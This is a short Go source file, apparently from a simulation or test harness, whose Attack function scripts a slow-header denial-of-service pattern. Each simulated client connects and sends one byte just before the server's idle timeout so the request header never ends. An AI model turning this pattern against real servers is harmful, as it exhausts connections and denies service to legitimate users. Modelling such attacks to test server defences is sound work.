package crowdout

import "time"

// Attack is the script of each attacker. All of them begin at the same moment.
func Attack(c Client) {
	c.Connect()
	for c.Now() < Lasts {
		c.Send("x") // one more byte of a head that never ends
		c.Sleep(IdleTimeout - time.Second)
	}
}
